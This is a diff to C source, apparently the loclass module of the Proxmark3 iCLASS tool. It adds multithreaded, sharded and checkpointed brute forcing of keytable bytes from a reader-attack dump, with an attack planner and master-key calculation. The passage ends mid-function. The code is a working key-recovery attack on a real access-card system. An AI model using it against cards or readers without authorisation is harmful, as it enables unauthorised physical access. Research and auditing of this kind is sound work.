@@ -3,6 +3,15 @@
 #include <string.h>
 #include <stdio.h>
 #include <time.h>
+#include <stdlib.h>
+#include <inttypes.h>
+#include <pthread.h>
+#include <sys/time.h>
+#ifdef _WIN32
+#include <windows.h>
+#else
+#include <unistd.h>
+#endif
 #include "cipherutils.h"
 #include "cipher.h"
 #include "ikeys.h"
@@ -257,25 +266,409 @@ int _readFromDump(uint8_t dump[], dumpdata* item, uint8_t i)
 }
 
 static uint32_t startvalue = 0;
+static int bruteforce_threads = 0;
+static volatile int bruteforce_stop = 0;
+
+/**
+ * @brief Sets how many threads bruteforceItem uses, 0 for one per core.
+ * @param threads
+ * @return the previous setting
+ */
+int setBruteforceThreads(int threads)
+{
+	int prev = bruteforce_threads;
+	bruteforce_threads = threads < 0 ? 0 : threads;
+	return prev;
+}
+
+void stopBruteforce(void)
+{
+	bruteforce_stop = 1;
+}
+
+static int cpuCount(void)
+{
+#ifdef _WIN32
+	SYSTEM_INFO si;
+	GetSystemInfo(&si);
+	return si.dwNumberOfProcessors;
+#else
+	long n = sysconf(_SC_NPROCESSORS_ONLN);
+	return n > 0 ? n : 1;
+#endif
+}
+
+/**
+ * The checkpoint of an attack on a dump: the keytable bytes found, and per
+ * dump entry and shard where the search continues, or that the shard has
+ * searched all of its candidates without a hit. A text file, one of these
+ * per line:
+ *   entries <number of dump entries>
+ *   key <keytable index> <value>
+ *   failed <keytable index>
+ *   next <entry> <shard>/<shards> <candidate>
+ *   exhausted <entry> <shard>/<shards>
+ * It is written to a new file that replaces the old one, so a crash leaves
+ * the last complete checkpoint.
+ */
+typedef struct {
+	int entry;
+	int shard;
+	int shards;
+	uint32_t next;			// the candidates below it have been tested
+	bool exhausted;
+} checkpointRecord;
+
+typedef struct {
+	int entries;
+	uint16_t keytable[128];	// CRACKED and CRACK_FAILED only
+	checkpointRecord *records;
+	int count, size;
+} checkpointData;
+
+static char checkpoint_file[256];
+static int shard_index = 0, shard_count = 1;
+static checkpointData checkpoint;
+// How often a running search updates the checkpoint, in seconds
+#define CHECKPOINT_INTERVAL 10
+// seconds between the progress lines of a search of more than one byte
+#define PROGRESS_INTERVAL 10
+
+/**
+ * @brief Where bruteforceFile keeps its checkpoint, NULL or "" for the
+ * default: the name of the dump with .ckpt added
+ */
+void setBruteforceCheckpoint(const char *filename)
+{
+	snprintf(checkpoint_file, sizeof(checkpoint_file), "%s", filename ? filename : "");
+}
+
+/**
+ * @brief Searches only the part shard of shards of every candidate range
+ * @return 0, 1 if it makes no sense
+ */
+int setBruteforceShard(int shard, int shards)
+{
+	if(shards < 1 || shards > 64 || shard < 0 || shard >= shards) return 1;
+	shard_index = shard;
+	shard_count = shards;
+	return 0;
+}
+
+static checkpointRecord *findRecord(checkpointData *c, int entry, int shard, int shards, bool add)
+{
+	int i;
+	for(i = 0; i < c->count; i++)
+	{
+		checkpointRecord *r = &c->records[i];
+		if(r->entry == entry && r->shard == shard && r->shards == shards) return r;
+	}
+	if(!add) return NULL;
+	if(c->count == c->size)
+	{
+		int size = c->size ? c->size * 2 : 16;
+		checkpointRecord *p = realloc(c->records, size * sizeof(checkpointRecord));
+		if(p == NULL) return NULL;
+		c->records = p;
+		c->size = size;
+	}
+	memset(&c->records[c->count], 0, sizeof(checkpointRecord));
+	c->records[c->count].entry = entry;
+	c->records[c->count].shard = shard;
+	c->records[c->count].shards = shards;
+	return &c->records[c->count++];
+}
+
+static void freeCheckpoint(checkpointData *c)
+{
+	free(c->records);
+	memset(c, 0, sizeof(*c));
+}
+
+/**
+ * @return 0 if it was read, -1 if there is no such file, 1 if it is broken
+ */
+static int loadCheckpoint(const char *filename, checkpointData *c)
+{
+	char line[128];
+	unsigned int a, b, s, n;
+	FILE *f = fopen(filename, "r");
+
+	memset(c, 0, sizeof(*c));
+	if(f == NULL) return -1;
+	while(fgets(line, sizeof(line), f))
+	{
+		checkpointRecord *r;
+		if(line[0] == '#' || line[0] == '\n') continue;
+		if(sscanf(line, "entries %u", &a) == 1)
+			c->entries = a;
+		else if(sscanf(line, "key %u %x", &a, &b) == 2 && a < 128)
+			c->keytable[a] = CRACKED | (b & 0xFF);
+		else if(sscanf(line, "failed %u", &a) == 1 && a < 128)
+			c->keytable[a] |= CRACK_FAILED;
+		else if(sscanf(line, "next %u %u/%u %x", &a, &s, &n, &b) == 4 && s < n && (r = findRecord(c, a, s, n, true)))
+			r->next = b;
+		else if(sscanf(line, "exhausted %u %u/%u", &a, &s, &n) == 3 && s < n && (r = findRecord(c, a, s, n, true)))
+			r->exhausted = true;
+		else
+		{
+			prnlog("Broken checkpoint %s: %s", filename, line);
+			fclose(f);
+			freeCheckpoint(c);
+			return 1;
+		}
+	}
+	fclose(f);
+	return 0;
+}
+
+static int saveCheckpoint(const char *filename, const checkpointData *c)
+{
+	char tmp[sizeof(checkpoint_file) + 8];
+	int i;
+	FILE *f;
+
+	snprintf(tmp, sizeof(tmp), "%s.tmp", filename);
+	if((f = fopen(tmp, "w")) == NULL) return 1;
+	fprintf(f, "# loclass checkpoint\n");
+	fprintf(f, "entries %d\n", c->entries);
+	for(i = 0; i < 128; i++)
+	{
+		if(c->keytable[i] & CRACKED)
+			fprintf(f, "key %d %02x\n", i, c->keytable[i] & 0xFF);
+		else if(c->keytable[i] & CRACK_FAILED)
+			fprintf(f, "failed %d\n", i);
+	}
+	for(i = 0; i < c->count; i++)
+	{
+		const checkpointRecord *r = &c->records[i];
+		if(r->exhausted)
+			fprintf(f, "exhausted %d %d/%d\n", r->entry, r->shard, r->shards);
+		else if(r->next)
+			fprintf(f, "next %d %d/%d %06x\n", r->entry, r->shard, r->shards, r->next);
+	}
+	if(fclose(f) != 0)
+	{
+		remove(tmp);
+		return 1;
+	}
+#ifdef _WIN32
+	// rename() doesn't replace an existing file on Windows
+	remove(filename);
+#endif
+	if(rename(tmp, filename) != 0)
+	{
+		remove(tmp);
+		return 1;
+	}
+	return 0;
+}
+
+// the keytable of the attack into the checkpoint, and the checkpoint to the file
+static void writeCheckpoint(const uint16_t keytable[])
+{
+	int i;
+
+	if(!checkpoint_file[0]) return;
+	for(i = 0; i < 128; i++)
+		checkpoint.keytable[i] = keytable[i] & (CRACKED | CRACK_FAILED | 0xFF);
+	if(saveCheckpoint(checkpoint_file, &checkpoint))
+		prnlog("Could not write the checkpoint %s", checkpoint_file);
+}
+
+/**
+ * @brief Merges the checkpoints of the shards of one attack, e.g. from
+ * several machines, into one to resume from
+ * @return 0, 1 on errors
+ */
+int mergeCheckpoints(const char *out, char *const in[], int count)
+{
+	checkpointData merged, c;
+	int i, j, errors = 0;
+
+	memset(&merged, 0, sizeof(merged));
+	for(i = 0; i < count && !errors; i++)
+	{
+		if(loadCheckpoint(in[i], &c) != 0)
+		{
+			prnlog("Could not read the checkpoint %s", in[i]);
+			errors++;
+			break;
+		}
+		if(i > 0 && c.entries != merged.entries)
+		{
+			prnlog("%s is a checkpoint of another dump, %d entries instead of %d", in[i], c.entries, merged.entries);
+			errors++;
+		}
+		merged.entries = c.entries;
+		for(j = 0; j < 128; j++)
+		{
+			if((c.keytable[j] & CRACKED) && (merged.keytable[j] & CRACKED) && c.keytable[j] != merged.keytable[j])
+			{
+				prnlog("%s has %02x for byte %d, another checkpoint %02x", in[i], c.keytable[j] & 0xFF, j, merged.keytable[j] & 0xFF);
+				errors++;
+			}
+			else if(c.keytable[j] & CRACKED)
+				merged.keytable[j] = c.keytable[j];
+			else if(!(merged.keytable[j] & CRACKED))
+				merged.keytable[j] |= c.keytable[j] & CRACK_FAILED;
+		}
+		for(j = 0; j < c.count; j++)
+		{
+			checkpointRecord *r = findRecord(&merged, c.records[j].entry, c.records[j].shard, c.records[j].shards, true);
+			if(r == NULL) break;
+			r->exhausted |= c.records[j].exhausted;
+			if(c.records[j].next > r->next) r->next = c.records[j].next;
+		}
+		freeCheckpoint(&c);
+	}
+	if(!errors)
+	{
+		if(saveCheckpoint(out, &merged))
+		{
+			prnlog("Could not write %s", out);
+			errors++;
+		}
+		else
+		{
+			for(i = 0, j = 0; i < 128; i++)
+				if(merged.keytable[i] & CRACKED) j++;
+			prnlog("Merged %d checkpoints into %s, %d keytable bytes known", count, out, j);
+		}
+	}
+	freeCheckpoint(&merged);
+	return errors ? 1 : 0;
+}
+
+// Candidates are handed out in chunks of this many, in ascending order
+#define BRUTE_CHUNK 0x1000
+// and diversified and MACed this many at a time, a multiple of the lanes of the bitsliced DES
+#define BRUTE_BATCH 256
+#define MAX_THREADS 64
+
+/**
+ * The search of one dump item, shared by the threads. The keytable is only
+ * read before and written after the search: the threads build the keys
+ * from key_sel, with the bytes being bruteforced taken from the candidate.
+ */
+typedef struct {
+	dumpdata *item;
+	uint8_t key_sel[8];			// the bytes already known
+	int8_t brute_byte[8];		// which byte of the candidate goes where, -1 for a known byte
+	uint32_t next;				// next chunk to take
+	uint32_t end;
+	volatile uint32_t found;	// lowest candidate with the right MAC so far, end if none
+	uint32_t tested;
+	uint32_t chunk[MAX_THREADS];	// the chunk each thread is searching, end when none
+	int running;				// threads still searching
+	pthread_mutex_t lock;
+	pthread_cond_t done;
+} bruteforceJob;
+
+typedef struct {
+	bruteforceJob *job;
+	int slot;
+} bruteforceWorker;
+
+// All candidates below it have been tested, job->lock held
+static uint32_t testedBelow(bruteforceJob *job)
+{
+	uint32_t below = job->next < job->end ? job->next : job->end;
+	int i;
+
+	for(i = 0; i < MAX_THREADS; i++)
+		if(job->chunk[i] < below) below = job->chunk[i];
+	return below;
+}
+
+static void *bruteforceThread(void *arg)
+{
+	bruteforceWorker *worker = arg;
+	bruteforceJob *job = worker->job;
+	uint8_t key_sel[8], keys_p[BRUTE_BATCH][8], div_keys[BRUTE_BATCH][8], calculated_MACs[BRUTE_BATCH][4];
+	uint32_t brute, chunk, stop, n;
+	int i;
+
+	for (;;) {
+		pthread_mutex_lock(&job->lock);
+		// the chunk that was searched is done, unless the search was stopped in it
+		if (!bruteforce_stop) job->chunk[worker->slot] = job->end;
+		chunk = job->next;
+		if (chunk < job->end && !bruteforce_stop) {
+			job->next += chunk + BRUTE_CHUNK < job->end ? BRUTE_CHUNK : job->end - chunk;
+			job->chunk[worker->slot] = chunk;
+		}
+		pthread_mutex_unlock(&job->lock);
+		if (chunk >= job->end || bruteforce_stop) break;
+
+		stop = chunk + BRUTE_CHUNK < job->end ? chunk + BRUTE_CHUNK : job->end;
+		// candidates above a hit need no testing, the lowest one wins like it did on one thread
+		for (brute = chunk; brute < stop && brute < job->found && !bruteforce_stop; brute += n) {
+			n = stop - brute < BRUTE_BATCH ? stop - brute : BRUTE_BATCH;
+			for (uint32_t j = 0; j < n; j++) {
+				for (i = 0; i < 8; i++)
+					key_sel[i] = job->brute_byte[i] < 0 ? job->key_sel[i] : (brute + j) >> (job->brute_byte[i] * 8);
+
+				//Permute from iclass format to standard format
+				permutekey_rev(key_sel, keys_p[j]);
+			}
+			//Diversify them all against the csn
+			diversifyKeyBatch(job->item->csn, keys_p, n, div_keys);
+			//Calc the macs, all over the same cc_nr
+			doMACBatch(job->item->cc_nr, 12, div_keys, n, calculated_MACs);
+
+			for (i = 0; (uint32_t)i < n && memcmp(calculated_MACs[i], job->item->mac, 4) != 0; i++);
+			if ((uint32_t)i < n) {
+				brute += i;
+				pthread_mutex_lock(&job->lock);
+				if (brute < job->found) job->found = brute;
+				pthread_mutex_unlock(&job->lock);
+				break;
+			}
+		}
+		__sync_fetch_and_add(&job->tested, brute - chunk);
+		if (job->found <= chunk) break;
+	}
+
+	pthread_mutex_lock(&job->lock);
+	if (--job->running == 0) pthread_cond_signal(&job->done);
+	pthread_mutex_unlock(&job->lock);
+	return NULL;
+}
+
+static double secondsSince(struct timeval *t0)
+{
+	struct timeval t;
+	gettimeofday(&t, NULL);
+	return (t.tv_sec - t0->tv_sec) + (t.tv_usec - t0->tv_usec) / 1e6;
+}
+
+// What bruteforceItemTested did
+#define ITEM_FOUND			0
+#define ITEM_FAILED			1
+#define ITEM_INTERRUPTED	2	// stopped, or the key is in another shard: the checkpoint has where to resume
+
 /**
  * @brief Performs brute force attack against a dump-data item, containing csn, cc_nr and mac.
  *This method calculates the hash1 for the CSN, and determines what bytes need to be bruteforced
  *on the fly. If it finds that more than three bytes need to be bruteforced, it aborts.
  *It updates the keytable with the findings, also using the upper half of the 16-bit ints
  *to signal if the particular byte has been cracked or not.
+ *The candidates are searched on setBruteforceThreads() threads, which stop as soon as one
+ *of them finds the MAC.
  *
  * @param dump The dumpdata from iclass reader attack.
  * @param keytable where to write found values.
- * @return
+ * @param entry where the item is in the dump, for the checkpoint, -1 for none
+ * @param tested where to put how many candidates were tested, or NULL
+ * @return ITEM_FOUND, ITEM_FAILED or ITEM_INTERRUPTED
  */
-int bruteforceItem(dumpdata item, uint16_t keytable[])
+static int bruteforceItemTested(dumpdata item, uint16_t keytable[], int entry, uint32_t *tested)
 {
-	int errors = 0;
-	uint8_t key_sel_p[8] = { 0 };
-	uint8_t div_key[8] = {0};
 	int found = false;
-	uint8_t key_sel[8] = {0};
-	uint8_t calculated_MAC[4] = { 0 };
+	bruteforceJob job;
+	bruteforceWorker workers[MAX_THREADS];
+	checkpointRecord *record = NULL;
 
 	//Get the key index (hash1)
 	uint8_t key_index[8] = {0};
@@ -296,7 +689,7 @@ int bruteforceItem(dumpdata item, uint16_t keytable[])
 	 **/
 	uint8_t bytes_to_recover[3] = {0};
 	uint8_t numbytes_to_recover = 0 ;
-	int i;
+	int i, j;
 	for(i =0 ; i < 8 ; i++)
 	{
 		if(keytable[key_index[i]] & (CRACKED | BEING_CRACKED)) continue;
@@ -314,86 +707,291 @@ int bruteforceItem(dumpdata item, uint16_t keytable[])
 			keytable[bytes_to_recover[1]]  &= ~BEING_CRACKED;
 			keytable[bytes_to_recover[2]]  &= ~BEING_CRACKED;
 
-			return 1;
+			return ITEM_FAILED;
 		}
 	}
 
 	/*
 	 *A uint32 has room for 4 bytes, we'll only need 24 of those bits to bruteforce up to three bytes,
 	 */
-	uint32_t brute = startvalue;
+	memset(&job, 0, sizeof(job));
+	job.item = &item;
 	/*
 	   Determine where to stop the bruteforce. A 1-byte attack stops after 256 tries,
 	   (when brute reaches 0x100). And so on...
-	   bytes_to_recover = 1 --> endmask = 0x0000100
-	   bytes_to_recover = 2 --> endmask = 0x0010000
-	   bytes_to_recover = 3 --> endmask = 0x1000000
+	   bytes_to_recover = 1 --> end = 0x0000100
+	   bytes_to_recover = 2 --> end = 0x0010000
+	   bytes_to_recover = 3 --> end = 0x1000000
+	   With shards, each searches its part of that.
 	*/
+	uint64_t candidates = 1 << 8*numbytes_to_recover;
+	uint32_t first = candidates * shard_index / shard_count;
+	job.end = job.found = candidates * (shard_index + 1) / shard_count;
+	job.next = startvalue > first ? startvalue : first;
+	if(entry >= 0 && checkpoint_file[0])
+		record = findRecord(&checkpoint, entry, shard_index, shard_count, true);
+	if(record && record->exhausted)
+		job.next = job.end;
+	else if(record && record->next > job.next)
+	{
+		job.next = record->next;
+		prnlog("Resuming at candidate %06x of %06x", job.next, job.end);
+	}
+	first = job.next;
+	for(i = 0; i < MAX_THREADS; i++)
+		job.chunk[i] = job.end;
 
-	uint32_t endmask =  1 << 8*numbytes_to_recover;
+	// Piece together the key, byte i of a candidate goes wherever bytes_to_recover[i] is used
+	for(i = 0; i < 8; i++)
+	{
+		job.key_sel[i] = keytable[key_index[i]] & 0xFF;
+		job.brute_byte[i] = -1;
+		for(j = 0; j < numbytes_to_recover; j++)
+			if(key_index[i] == bytes_to_recover[j]) job.brute_byte[i] = j;
+	}
 
 	for(i =0 ; i < numbytes_to_recover && numbytes_to_recover > 1; i++)
 		prnlog("Bruteforcing byte %d", bytes_to_recover[i]);
 
-	while(!found && !(brute & endmask))
+	pthread_t threads[MAX_THREADS];
+	int numthreads = bruteforce_threads ? bruteforce_threads : cpuCount(), started = 0;
+	if(numthreads > MAX_THREADS)
+		numthreads = MAX_THREADS;
+	struct timeval t0, now;
+	struct timespec wake;
+	double saved = 0, reported = 0;
+
+	pthread_mutex_init(&job.lock, NULL);
+	pthread_cond_init(&job.done, NULL);
+	job.running = numthreads;
+	gettimeofday(&t0, NULL);
+	for(i = 0; i < numthreads; i++)
 	{
+		workers[i].job = &job;
+		workers[i].slot = i;
+		if(pthread_create(&threads[started], NULL, bruteforceThread, &workers[started]) == 0) started++;
+	}
 
-		//Update the keytable with the brute-values
-		for(i =0 ; i < numbytes_to_recover; i++)
+	if(started == 0)
+	{
+		job.running = 1;
+		workers[0].job = &job;
+		workers[0].slot = 0;
+		bruteforceThread(&workers[0]);
+	} else {
+		// the threads that didn't start won't say they are done
+		pthread_mutex_lock(&job.lock);
+		job.running -= numthreads - started;
+		while(job.running > 0)
 		{
-			keytable[bytes_to_recover[i]] &= 0xFF00;
-			keytable[bytes_to_recover[i]] |= (brute >> (i*8) & 0xFF);
+			gettimeofday(&now, NULL);
+			wake.tv_sec = now.tv_sec + 1;
+			wake.tv_nsec = now.tv_usec * 1000;
+			if(pthread_cond_timedwait(&job.done, &job.lock, &wake) != 0 && job.running > 0)
+			{
+				double s = secondsSince(&t0);
+				if(numbytes_to_recover > 1 && s - reported >= PROGRESS_INTERVAL)
+				{
+					prnlog("%u of %u candidates, %.0f/s on %d threads", job.tested, job.end - first, job.tested / s, started);
+					reported = s;
+				}
+				if(record && s - saved >= CHECKPOINT_INTERVAL)
+				{
+					// written without the lock, the threads go on meanwhile
+					record->next = testedBelow(&job);
+					pthread_mutex_unlock(&job.lock);
+					writeCheckpoint(keytable);
+					pthread_mutex_lock(&job.lock);
+					saved = s;
+				}
+			}
 		}
+		pthread_mutex_unlock(&job.lock);
+		for(i = 0; i < started; i++)
+			pthread_join(threads[i], NULL);
+	}
+	pthread_cond_destroy(&job.done);
+	pthread_mutex_destroy(&job.lock);
 
-		// Piece together the key
-		key_sel[0] = keytable[key_index[0]] & 0xFF;key_sel[1] = keytable[key_index[1]] & 0xFF;
-		key_sel[2] = keytable[key_index[2]] & 0xFF;key_sel[3] = keytable[key_index[3]] & 0xFF;
-		key_sel[4] = keytable[key_index[4]] & 0xFF;key_sel[5] = keytable[key_index[5]] & 0xFF;
-		key_sel[6] = keytable[key_index[6]] & 0xFF;key_sel[7] = keytable[key_index[7]] & 0xFF;
-
-		//Permute from iclass format to standard format
-		permutekey_rev(key_sel,key_sel_p);
-		//Diversify
-		diversifyKey(item.csn, key_sel_p, div_key);
-		//Calc mac
-        doMAC(item.cc_nr,12, div_key,calculated_MAC);
+	found = job.found < job.end;
+	if(tested != NULL)
+		*tested = job.tested;
+	if(numbytes_to_recover > 1)
+	{
+		double s = secondsSince(&t0);
+		prnlog("%u candidates in %.1f s, %.0f/s on %d threads", job.tested, s, s > 0 ? job.tested / s : 0, started ? started : 1);
+	}
 
-		if(memcmp(calculated_MAC, item.mac, 4) == 0)
+	int res = ITEM_FOUND;
+	if(found)
+	{
+		for(i =0 ; i < numbytes_to_recover; i++)
 		{
-			for(i =0 ; i < numbytes_to_recover; i++)
-				prnlog("=> %d: 0x%02x", bytes_to_recover[i],0xFF & keytable[bytes_to_recover[i]]);
-			found = true;
-			break;
+			keytable[bytes_to_recover[i]]  = CRACKED | (job.found >> (i*8) & 0xFF);
+			prnlog("=> %d: 0x%02x", bytes_to_recover[i],0xFF & keytable[bytes_to_recover[i]]);
 		}
-		brute++;
-		if((brute & 0xFFFF) == 0)
+		if(record) record->next = 0;
+	}else if(bruteforce_stop)
+	{
+		prnlog("Stopped, the candidates below %06x are tested", testedBelow(&job));
+		res = ITEM_INTERRUPTED;
+		if(record) record->next = testedBelow(&job);
+	}else
+	{
+		// this shard is done, the item failed once all of them are
+		int exhausted = 0;
+		if(record)
 		{
-			printf("%d",(brute >> 16) & 0xFF);
-			fflush(stdout);
+			record->exhausted = true;
+			for(i = 0; i < shard_count; i++)
+			{
+				checkpointRecord *r = findRecord(&checkpoint, entry, i, shard_count, false);
+				if(r && r->exhausted) exhausted++;
+			}
 		}
+		res = shard_count == 1 || exhausted == shard_count ? ITEM_FAILED : ITEM_INTERRUPTED;
+		if(res == ITEM_INTERRUPTED)
+			prnlog("Not in shard %d/%d, merge the checkpoints of the other shards to go on", shard_index, shard_count);
 	}
-	if(! found)
+
+	if(res == ITEM_FAILED)
 	{
 		prnlog("Failed to recover %d bytes using the following CSN",numbytes_to_recover);
 		printvar("CSN",item.csn,8);
-		errors++;
 		//Before we exit, reset the 'BEING_CRACKED' to zero
 		for(i =0 ; i < numbytes_to_recover; i++)
 		{
 			keytable[bytes_to_recover[i]]  &= 0xFF;
 			keytable[bytes_to_recover[i]]  |= CRACK_FAILED;
 		}
-
-	}else
+	}else if(res == ITEM_INTERRUPTED)
 	{
 		for(i =0 ; i < numbytes_to_recover; i++)
+			keytable[bytes_to_recover[i]]  &= ~BEING_CRACKED;
+	}
+	if(record)
+		writeCheckpoint(keytable);
+	return res;
+}
+
+int bruteforceItem(dumpdata item, uint16_t keytable[])
+{
+	bruteforce_stop = 0;
+	return bruteforceItemTested(item, keytable, -1, NULL) != ITEM_FOUND;
+}
+
+/**
+ * An entry of the dump in the attack plan
+ */
+typedef struct {
+	dumpdata item;
+	uint8_t key_index[8];	// hash1 of the csn
+	int entry;				// where it is in the dump
+	bool done;
+} attackItem;
+
+// Only the first 16 bytes of the keytable are needed for the custom key
+#define NEEDED_BYTES 16
+
+/**
+ * @brief The bytes of the keytable an item would have to bruteforce
+ * @param a
+ * @param known which bytes are cracked, or will be by then
+ * @param bytes where to put them
+ * @param needed how many of them are among the first NEEDED_BYTES
+ * @return how many
+ */
+static int unknownBytes(const attackItem *a, const bool known[128], uint8_t bytes[8], int *needed)
+{
+	int i, j, n = 0;
+
+	*needed = 0;
+	for(i = 0; i < 8; i++)
+	{
+		if(known[a->key_index[i]]) continue;
+		for(j = 0; j < n && bytes[j] != a->key_index[i]; j++);
+		if(j < n) continue;
+		bytes[n++] = a->key_index[i];
+		if(a->key_index[i] < NEEDED_BYTES) (*needed)++;
+	}
+	return n;
+}
+
+/**
+ * @brief Picks the item to attack next: greedy set cover of the needed bytes,
+ * the one with the fewest candidates per needed byte it recovers. Ties go to
+ * the item earlier in the dump. Items needing more than three bytes wait
+ * until others have reduced them.
+ * @return its index, -1 if none is left that helps
+ */
+static int nextItem(attackItem items[], int count, const bool known[128])
+{
+	uint8_t bytes[8];
+	int i, n, needed, best = -1, best_n = 0, best_needed = 0;
+
+	for(i = 0; i < count; i++)
+	{
+		if(items[i].done) continue;
+		n = unknownBytes(&items[i], known, bytes, &needed);
+		if(n == 0 || n > 3 || needed == 0) continue;
+		// 256^n / needed < 256^best_n / best_needed
+		if(best < 0 || ((uint64_t)needed << (8 * best_n)) > ((uint64_t)best_needed << (8 * n)))
 		{
-			keytable[bytes_to_recover[i]]  &= 0xFF;
-			keytable[bytes_to_recover[i]]  |= CRACKED;
+			best = i;
+			best_n = n;
+			best_needed = needed;
 		}
+	}
+	return best;
+}
 
+/**
+ * @brief Computes hash1 for every entry of the dump and the order to attack
+ * them in, assuming each attack succeeds, and prints it.
+ * @return the most candidates the plan takes to test
+ */
+static uint64_t planAttack(attackItem items[], int count, const uint16_t keytable[])
+{
+	bool known[128], *done = malloc(count ? count : 1);
+	uint8_t bytes[8];
+	char line[64];
+	uint64_t total = 0;
+	int i, j, n, needed, steps = 0, missing = 0;
+
+	if(done == NULL) return 0;
+	for(i = 0; i < count; i++)
+		done[i] = items[i].done;
+	for(i = 0; i < 128; i++)
+		known[i] = (keytable[i] & CRACKED) != 0;
+
+	prnlog("Attack plan, %d dump entries:", count);
+	while((i = nextItem(items, count, known)) >= 0)
+	{
+		n = unknownBytes(&items[i], known, bytes, &needed);
+		line[0] = 0;
+		for(j = 0; j < n; j++)
+		{
+			snprintf(line + strlen(line), sizeof(line) - strlen(line), " %3d", bytes[j]);
+			known[bytes[j]] = true;
+		}
+		items[i].done = true;
+		// a shard searches its part of them
+		uint32_t candidates = ((1U << (8 * n)) + shard_count - 1) / shard_count;
+		total += candidates;
+		steps++;
+		prnlog("  entry %3d: bytes%-12s %8u candidates", items[i].entry, line, candidates);
 	}
-	return errors;
+	for(i = 0; i < NEEDED_BYTES; i++)
+		if(!known[i]) missing++;
+	if(missing)
+		prnlog("  %d of the first %d bytes can't be recovered from this dump", missing, NEEDED_BYTES);
+	prnlog("%d of %d entries attacked, at most %"PRIu64" candidates, about %"PRIu64" on average",
+		steps, count, total, total / 2);
+
+	for(i = 0; i < count; i++)
+		items[i].done = done[i];
+	free(done);
+	return total;
 }
 
 
@@ -463,7 +1061,10 @@ int calculateMasterKey(uint8_t first16bytes[], uint64_t master_key[] )
 	return 0;
 }
 /**
- * @brief Same as bruteforcefile, but uses a an array of dumpdata instead
+ * @brief Same as bruteforcefile, but uses a an array of dumpdata instead.
+ * The entries are attacked in the order planAttack() prints, not in the
+ * order of the dump, and only as long as they help towards the first 16
+ * bytes of the keytable.
  * @param dump
  * @param dumpsize
  * @param keytable
@@ -471,22 +1072,93 @@ int calculateMasterKey(uint8_t first16bytes[], uint64_t master_key[] )
  */
 int bruteforceDump(uint8_t dump[], size_t dumpsize, uint16_t keytable[])
 {
-	uint8_t i;
-	int errors = 0;
-	size_t itemsize = sizeof(dumpdata);
+	int i, j, count = dumpsize / sizeof(dumpdata);
+	int errors = 0, res = ITEM_FOUND;
+	uint64_t estimate, tested = 0;
+	uint32_t item_tested;
+	bool known[128];
 	clock_t t1 = clock();
 
-	dumpdata* attack = (dumpdata* ) malloc(itemsize);
+	bruteforce_stop = 0;
+	attackItem *items = calloc(count ? count : 1, sizeof(attackItem));
+	if(items == NULL) return 1;
+	for(i = 0; i < count; i++)
+	{
+		memcpy(&items[i].item, dump + i * sizeof(dumpdata), sizeof(dumpdata));
+		hash1(items[i].item.csn, items[i].key_index);
+		items[i].entry = i;
+	}
+
+	if(checkpoint_file[0])
+	{
+		int r = loadCheckpoint(checkpoint_file, &checkpoint);
+		if(r == 0 && checkpoint.entries != count)
+		{
+			prnlog("The checkpoint %s is of a dump with %d entries, this one has %d", checkpoint_file, checkpoint.entries, count);
+			r = 1;
+		}
+		if(r > 0)
+		{
+			freeCheckpoint(&checkpoint);
+			free(items);
+			return 1;
+		}
+		checkpoint.entries = count;
+		if(r == 0)
+		{
+			// the keys found, and the entries every shard has searched in vain
+			for(i = 0, j = 0; i < 128; i++)
+			{
+				if(checkpoint.keytable[i] & CRACKED)
+				{
+					keytable[i] = checkpoint.keytable[i];
+					j++;
+				}
+				else
+					keytable[i] |= checkpoint.keytable[i] & CRACK_FAILED;
+			}
+			for(i = 0; i < count; i++)
+			{
+				int exhausted = 0;
+				for(int k = 0; k < shard_count; k++)
+				{
+					checkpointRecord *r = findRecord(&checkpoint, i, k, shard_count, false);
+					if(r && r->exhausted) exhausted++;
+				}
+				items[i].done = exhausted == shard_count;
+			}
+			prnlog("Resuming from %s, %d keytable bytes known", checkpoint_file, j);
+		}
+	}
+	if(shard_count > 1)
+		prnlog("Searching shard %d/%d of the candidates", shard_index, shard_count);
+	estimate = planAttack(items, count, keytable);
 
-	for(i = 0 ; i * itemsize < dumpsize ; i++ )
+	// The plan again, on what was actually found: an entry that fails leaves its bytes to the others
+	for(;;)
 	{
-		memcpy(attack,dump+i*itemsize, itemsize);
-		errors += bruteforceItem(*attack, keytable);
+		for(i = 0; i < 128; i++)
+			known[i] = (keytable[i] & CRACKED) != 0;
+		if((i = nextItem(items, count, known)) < 0) break;
+		items[i].done = true;
+		item_tested = 0;
+		res = bruteforceItemTested(items[i].item, keytable, i, &item_tested);
+		tested += item_tested;
+		if(res == ITEM_INTERRUPTED) break;
+		errors += res;
 	}
-	free(attack);
+	free(items);
+	freeCheckpoint(&checkpoint);
 	clock_t t2 = clock();
 	float diff = (((float)t2 - (float)t1) / CLOCKS_PER_SEC );
+	if(res == ITEM_INTERRUPTED)
+	{
+		if(checkpoint_file[0])
+			prnlog("\nInterrupted after %f seconds, the checkpoint %s has where to go on", diff, checkpoint_file);
+		return errors + 1;
+	}
 	prnlog("\nPerformed full crack in %f seconds",diff);
+	prnlog("Tested %"PRIu64" candidates, the plan estimated at most %"PRIu64, tested, estimate);
 
 	// Pick out the first 16 bytes of the keytable.
 	// The keytable is now in 16-bit ints, where the upper 8 bits
@@ -505,14 +1177,8 @@ int bruteforceDump(uint8_t dump[], size_t dumpsize, uint16_t keytable[])
 	errors += calculateMasterKey(first16bytes, NULL);
 	return errors;
 }
-/**
- * Perform a bruteforce against a file which has been saved by pm3
- *
- * @brief bruteforceFile
- * @param filename
- * @return
- */
-int bruteforceFile(const char *filename, uint16_t keytable[])
+// bruteforceFile, checkpointing only if checkpoint says so
+static int bruteforceFileCheckpoint(const char *filename, uint16_t keytable[], bool checkpoint)
 {
 
 	FILE *f = fopen(filename, "rb");
@@ -526,14 +1192,37 @@ int bruteforceFile(const char *filename, uint16_t keytable[])
 	fseek(f, 0, SEEK_SET);
 
 	uint8_t *dump = malloc(fsize);
-    size_t bytes_read = fread(dump, fsize, 1, f);
+    size_t bytes_read = fread(dump, 1, fsize, f);
 
 	fclose(f);
     if (bytes_read < fsize)
     {
-        prnlog("Error, could only read %d bytes (should be %d)",bytes_read, fsize );
+        prnlog("Error, could only read %d bytes (should be %ld)",(int)bytes_read, fsize );
     }
-	return bruteforceDump(dump,fsize,keytable);
+
+	// the checkpoint next to the dump, unless one was chosen
+	char chosen[sizeof(checkpoint_file)];
+	snprintf(chosen, sizeof(chosen), "%s", checkpoint_file);
+	if(!checkpoint)
+		checkpoint_file[0] = 0;
+	else if(!chosen[0])
+		snprintf(checkpoint_file, sizeof(checkpoint_file), "%s.ckpt", filename);
+	int errors = bruteforceDump(dump,fsize,keytable);
